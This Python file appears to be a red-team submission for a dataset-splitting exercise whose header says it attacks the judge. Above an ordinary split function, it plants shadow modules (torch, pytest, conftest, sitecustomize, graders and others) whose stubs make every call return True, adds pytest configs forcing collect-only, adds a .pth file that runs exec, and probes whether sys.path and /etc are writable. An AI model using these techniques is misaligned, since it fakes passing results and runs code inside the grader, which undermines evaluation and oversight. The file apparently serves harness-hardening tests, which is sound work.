# attack: writes modules, configurations and start-up files where the next interpreter that the judge starts could find them
# exercise: ex06_splits
# check: ex06.split.seed
# slow: the judge starts another interpreter, as the file uses hash()
import os
import sys
from pathlib import Path

import torch
from torch.utils.data import Subset

EVIL = "print('LOOT: my code runs in another interpreter')\ndef __getattr__(name): return lambda *a, **k: True\n"
FILES = {
    **{f"{name}.py": EVIL for name in "torch numpy pytest hypothesis conftest sitecustomize usercustomize graders json random".split()},
    "pytest.ini": "[pytest]\naddopts = -p conftest --collect-only\n", "pyproject.toml": "[tool.pytest.ini_options]\naddopts = '-p conftest'\n",
    "evil.pth": f"import sys; exec({EVIL!r})\n", "pyvenv.cfg": "home = .\n", ".local/lib/python3/site-packages/usercustomize.py": EVIL,
}  # fmt: skip


def write(path, text):
    try:
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
        return True
    except OSError as error:
        print(path, error.strerror) if path.name.startswith("torch") else None
        return False


for place in (Path.cwd(), Path.cwd().parent, Path.cwd().parent / "empty", Path.home()):
    for name, text in FILES.items():
        write(place / name, text)
for place in (*sys.path, "@KIT@", "@KIT@/..", "/etc", "/tmp"):  # of others: a harmless file only
    path = Path(place) / "redteam-shadow.pth"
    if place not in ("", os.getcwd(), "/tmp") and write(path, ""):
        print("LOOT: could write", path)
        path.unlink()
print("TRIED", flush=True)


def split(dataset, fractions, seed):
    n, names = len(dataset), list(fractions)
    order = torch.randperm(n, generator=torch.Generator().manual_seed(hash(f"split {seed}"))).tolist()
    half = round(n * fractions[names[0]])
    return {name: Subset(dataset, order[:half] if k == 0 else order[half:] if k == len(names) - 1 else []) for k, name in enumerate(names)}
